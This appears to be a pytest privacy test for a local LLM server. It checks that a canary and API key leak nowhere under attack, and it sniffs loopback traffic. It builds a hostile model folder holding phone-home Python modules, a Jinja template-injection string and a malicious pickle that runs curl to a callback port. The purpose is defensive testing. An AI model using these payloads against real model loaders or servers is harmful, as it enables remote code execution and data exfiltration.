"""The seal around a server at work: attacked while it streams, watched by a sniffer, searched."""

from __future__ import annotations

import http.client
import json
import os
import re
import secrets
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from sealing import as_user

from ingle.privacy.namespaces import enter_empty_network

ROOT = Path(__file__).parents[2]
ENDLESS = {"stream": True, "logit_bias": {"1": -100}, "max_tokens": 900}  # no end of sequence


def post(port: int, body: object, key: str = "", path: str = "/v1/chat/completions"):
    """Send a request; the reply is not yet read."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    headers = {"Content-Type": "application/json"}
    if key:
        headers["Authorization"] = f"Bearer {key}"
    connection.request("POST", path, json.dumps(body), headers)
    return connection.getresponse()


def question(text: str) -> dict:
    return {"messages": [{"role": "user", "content": text}]}


@pytest.mark.slow
def test_nothing_gets_out_while_it_streams_and_computes(tmp_path):
    pipe = subprocess.PIPE
    command = [sys.executable, ROOT / "tests/privacy/attacked_server.py", tmp_path]
    with subprocess.Popen(command, stdin=pipe, stdout=pipe, text=True) as process:
        try:
            port = int(process.stdout.readline())
            stream = post(port, question("What is 47 + 85?") | ENDLESS)
            before = [stream.readline() for _ in range(6)]
            process.stdin.write("\n")
            process.stdin.flush()
            proof = json.loads(process.stdout.readline())
            after = [line for line in iter(stream.readline, b"") if line.startswith(b"data")]
        finally:
            process.kill()
    assert any(line.startswith(b"data") for line in before)
    assert len(after) > 1 and after[-1].strip() == b"data: [DONE]"
    assert proof["succeeded_sealed"] == 0 and proof["attempts"] >= 80


HOME = 9  # the port hostile code calls
HOSTILE = """
import socket
socket.create_connection(("127.0.0.1", {port})).sendall(b"phoned home")
"""


class Sniffer:
    """All packets of this network's loopback device, from now on."""

    def __init__(self) -> None:
        self.packets: list[bytes] = []
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind(("lo", 0))
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while packet := self.socket.recv(1 << 17):
            self.packets.append(packet)

    def ports(self) -> list[tuple[int, int, bool] | None]:
        """Of each TCP packet over IPv4: its ports, whether it carries data. None for others."""
        found: list[tuple[int, int, bool] | None] = []
        for packet in self.packets:
            frame = packet[14:]
            if packet[12:14] == b"\x08\x00" and frame[9] == 6:
                begin = (frame[0] & 15) * 4
                one, other = struct.unpack_from(">HH", frame, begin)
                size = struct.unpack_from(">H", frame, 2)[0]
                found.append((one, other, size > begin + (frame[begin + 12] >> 4) * 4))
            else:
                found.append(None)
        return found


def hostile_model(folder: Path, port: int) -> Path:
    """The shipped reasoner with everything in its folder that other programs would run."""
    shutil.copytree(ROOT / "reasoner", folder)
    code = HOSTILE.format(port=port)
    (folder / "modeling_hostile.py").write_text(code)
    (folder / "tokenization_hostile.py").write_text(code)
    (folder / "sitecustomize.py").write_text(code)
    config = json.loads((folder / "config.json").read_text())
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_hostile.Model"}
    (folder / "config.json").write_text(json.dumps(config))
    settings = {
        "auto_map": {"AutoTokenizer": ["tokenization_hostile.Tokenizer", None]},
        "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    }
    settings = json.loads((folder / "tokenizer_config.json").read_text()) | settings
    (folder / "tokenizer_config.json").write_text(json.dumps(settings))
    (folder / "chat_template.jinja").write_text(settings["chat_template"])
    system = b"cos\nsystem\n(S'curl http://127.0.0.1:%d'\ntR." % port
    (folder / "pytorch_model.bin").write_bytes(system)
    return folder


def a_servers_life(folder: Path, canary: str, key: str) -> dict:
    """Serve a hostile folder in a network of its own; what the sniffer, files and logs hold."""
    enter_empty_network(loopback=True)
    sniffer = Sniffer()
    model = hostile_model(folder / "model", HOME)
    (folder / "keys").write_text(f"{key} name=alice\n")
    (folder / "keys").chmod(0o600)
    environment = {**os.environ, "INGLE_CACHE": str(folder / "state")}
    command = [sys.executable, "-m", "ingle", "serve", str(model), "--port", "8000", "--json",
               "--api-key-file", str(folder / "keys"), "--log", "json"]  # fmt: skip
    pipe = subprocess.PIPE
    with subprocess.Popen(command, stdout=pipe, stderr=pipe, env=environment, cwd=folder) as server:
        facts = json.loads(server.stdout.readline())
        replies, refusals = [], []
        for body in (question(canary), question(f"Spell {canary}") | ENDLESS | {"max_tokens": 40}):
            reply = post(8000, body, key)
            replies.append((reply.status, reply.read().decode()))
        asked = question(canary)
        for body in (asked | {"no_such_field": canary}, asked | {"temperature": canary},
                     question(canary * 400), {"messages": canary}):  # fmt: skip
            reply = post(8000, body, key)
            refusals.append((reply.status, reply.read().decode()))
        refusals.append((post(8000, question(canary), canary).status, ""))
        told = []
        for path in (
            "/metrics",
            "/health",
            "/openapi.json",
            "/v1/models",
            "/v1/seal",
            f"/{canary}",
        ):
            connection = http.client.HTTPConnection("127.0.0.1", 8000, timeout=60)
            connection.request("GET", path, headers={"Authorization": f"Bearer {key}"})
            told.append(connection.getresponse().read().decode())
        seen = Path(f"/proc/{server.pid}/cmdline").read_bytes()
        seen += Path(f"/proc/{server.pid}/environ").read_bytes()
        server.send_signal(signal.SIGSEGV)  # a crash would be a chance to write all to disk
        out, err = server.communicate()
    files = [path for path in folder.rglob("*") if path.is_file() and path.name != "keys"]
    holding = [str(path) for path in files if canary.encode() in path.read_bytes()]
    with_canary = [packet for packet in sniffer.packets if canary.encode() in packet]
    return {
        "seal": facts["seal"]["state"],
        "replies": replies,
        "refusals": refusals,
        "elsewhere": "\0".join([*told, seen.decode(), out.decode(), err.decode()]),
        "files": holding,
        "cores": [path.name for path in files if re.match(r"core(\.|$)", path.name)],
        "ports": sniffer.ports(),
        "packets_with_canary": len(with_canary),
        "crashed": server.returncode,
    }


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="a sniffer needs root")
def test_a_canary_is_seen_on_the_clients_connection_and_nowhere_else(tmp_path):
    canary, key = f"canary-{secrets.token_hex(16)}", secrets.token_hex(16)
    life = as_user(0, lambda: a_servers_life(tmp_path, canary, key))
    assert life["seal"] == "sealed"
    assert [status for status, _ in life["replies"]] == [200, 200]
    assert {status for status, _ in life["refusals"]} <= {400, 401, 413}
    assert all(canary not in text for _, text in life["refusals"])
    assert canary not in life["elsewhere"] and key not in life["elsewhere"]
    assert life["files"] == [] and life["cores"] == []
    assert life["crashed"] == -signal.SIGSEGV
    assert life["packets_with_canary"] >= 2
    # the witness of the server's start makes empty connections, as bait
    assert None not in life["ports"]
    assert all(8000 in ports for *ports, data in life["ports"] if data)
    assert not any(HOME in ports for ports in life["ports"])
